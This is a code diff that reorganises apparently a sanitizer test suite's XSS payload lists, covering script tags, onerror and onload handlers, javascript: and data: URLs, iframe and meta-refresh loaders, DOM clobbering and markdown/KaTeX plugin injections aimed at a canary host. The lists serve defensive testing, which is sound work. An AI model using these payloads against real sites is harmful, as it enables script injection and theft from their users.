-  ].map((cover_image) => ({ cover_image, content: 'Text.' })),
-  { title: `<img src=x onerror=${run}>`, content: `# <img src=x onerror=${run}>\n\nText.` },
+  ...listWith(run)(`
+  <script>@</script> "><img·src=x·onerror=@> '><svg·onload=@> </title><script>@</script> \${@}{@} <!-- javascript:@
+  </h1></main><img·src=x·onerror=@> --><img·src=x·onerror=@> &lt;img·src=x·onerror=@&gt;`).map(
+    (title) => ({ title, content: 'Text.' }),
+  ),
+  ...listWith(run)(`
+  javascript:@ \u0001javascript:@ x"·onerror="@ https://canary.example/x.png"·onload="@ blob:https://a.example/x
+  vbscript:x`)
+    .concat('JAVA\tSCRIPT:alert(1)', `data:text/html,${page}`, `data:image/svg+xml,${svgFile}`)
+    .map((cover_image) => ({ cover_image, content: 'Text.' })),
+  { title: image, content: `# ${image}\n\nText.` },
   { title: 'T', content: `<p>&lt;img src=x onerror=${run}&gt;</p>` },
 ];
 
-/** Markdown that plugins turn into elements, attributes or URLs. */
+/** Text that plugins turn into elements, attributes or URLs. */
 const plugins = [
-  `:script[${run}]`,
-  `::script{src="${canary}/x.js"}`,
-  `:::script\n${run}\n:::`,
-  `:::style\n*{display:none}\n:::`,
-  `::iframe{src="${canary}/page.html"}`,
-  `::iframe{srcdoc="<script>${run}</script>"}`,
-  `::object{data="${canary}/page.html"}`,
-  `::embed{src="${canary}/page.html"}`,
-  `:img{src=x onerror="${run}"}`,
-  `:a[x]{href="javascript:${run}"}`,
-  `::base{href="${canary}/"}`,
-  `::meta{http-equiv=refresh content="0;url=${canary}/page.html"}`,
-  `::link{rel=stylesheet href="${canary}/x.css"}`,
-  `:::div{style="position:fixed;inset:0;z-index:99"}\nover\n:::`,
-  `:::div{.cover}\nover\n:::`,
-  `:::form{action="javascript:${run}"}\n:button[x]\n:::`,
-  `:::svg{onload="${run}"}\nx\n:::`,
-  `:::template\n<b hidden>x\n:::`,
-  `:::textarea\nx`,
-  `:a[x]{id=siteConfig href="${canary}/x.js"}`,
-  `:span[x]{id=siteConfig}`,
-  `$\\href{javascript:${run}}{x}$`,
-  `$\\url{javascript:${run}}$`,
-  `$\\htmlId{siteConfig}{\\href{${canary}/x.js}{x}}$`,
-  `$\\htmlStyle{position:fixed;inset:0;z-index:99}{x}$`,
-  `$\\htmlClass{cover}{x}$`,
-  `$\\htmlData{onclick=${run}}{x}$`,
-  `$\\includegraphics{${canary}/x.svg}$`,
-  `$\\rule{9999em}{9999em}$`,
-  `$\\raisebox{999em}{x}$`,
-  `$$\n\\kern{-9999em}\\rule{9999em}{9999em}\n$$`,
-  `\`\`\`html\n<img src=x onerror=${run}>\n\`\`\``,
-  `\`\`\`html\n</code></pre><script>${run}</script>\n\`\`\``,
-  `\`\`\`js title="<img src=x onerror=${run}>"\nx\n\`\`\``,
-  `\`\`\`js {1} "x" /<img src=x onerror=${run}>/\nx\n\`\`\``,
+  ...listWith(run)(`
+  :script[@] :::script¶@¶::: :::style¶*{display:none}¶::: ::iframe{srcdoc="<script>@</script>"}
+  :img{src=x·onerror="@"} :a[x]{href="javascript:@"} :::form{action="javascript:@"}¶:button[x]¶:::
+  :::svg{onload="@"}¶x¶::: :::template¶<b·hidden>x¶::: :::textarea¶x :span[x]{id=siteConfig}
+  :::div{style="position:fixed;inset:0;z-index:99"}¶over¶::: :::div{.cover}¶over¶:::
+  $\\href{javascript:@}{x}$ $\\url{javascript:@}$ $\\htmlData{onclick=@}{x}$ $\\htmlClass{cover}{x}$
+  $\\htmlStyle{position:fixed;inset:0;z-index:99}{x}$ $\\rule{9999em}{9999em}$ $\\raisebox{999em}{x}$
+  $$¶\\kern{-9999em}\\rule{9999em}{9999em}¶$$ °°°html¶<img·src=x·onerror=@>¶°°°
+  °°°html¶</code></pre><script>@</script>¶°°° °°°js·title="<img·src=x·onerror=@>"¶x¶°°°
+  °°°js·{1}·"x"·/<img·src=x·onerror=@>/¶x¶°°°`),
+  ...listWith(canary)(`
+  ::script{src="@/x.js"} ::iframe{src="@/page.html"} ::object{data="@/page.html"} ::embed{src="@/page.html"}
+  ::base{href="@/"} ::meta{http-equiv=refresh·content="0;url=@/page.html"} ::link{rel=stylesheet·href="@/x.css"}
+  :a[x]{id=siteConfig·href="@/x.js"} $\\htmlId{siteConfig}{\\href{@/x.js}{x}}$ $\\includegraphics{@/x.svg}$`),
 ];
 
 const families = {
-  scripts,
-  loading,
-  handlers: [...handlers, ...interactive],
-  urls,
-  carriers,
-  frames,
-  elsewhere,
-  mutation,
-  clobbering,
-  overlays,
-  unclosed,
-  markdown,
-  plugins,
+  ...{ scripts, loading, handlers, urls, carriers, frames, elsewhere, mutation },
+  ...{ clobbering, overlays, unclosed, markdown, plugins },
 };
 
 /** All payloads, with the id `family-number`. */
 export const payloads: readonly Payload[] = [
   ...Object.entries(families).flatMap(([family, texts]) =>
-    [...new Set(texts)].map((content, index) => ({
-      id: `${family}-${index}`,
-      content: content ?? '',
-    })),
+    [...new Set(texts)].map((content = '', index) => ({ id: `${family}-${index}`, content })),
   ),
   ...fields.map((field, index) => ({ id: `fields-${index}`, ...field })),
 ];
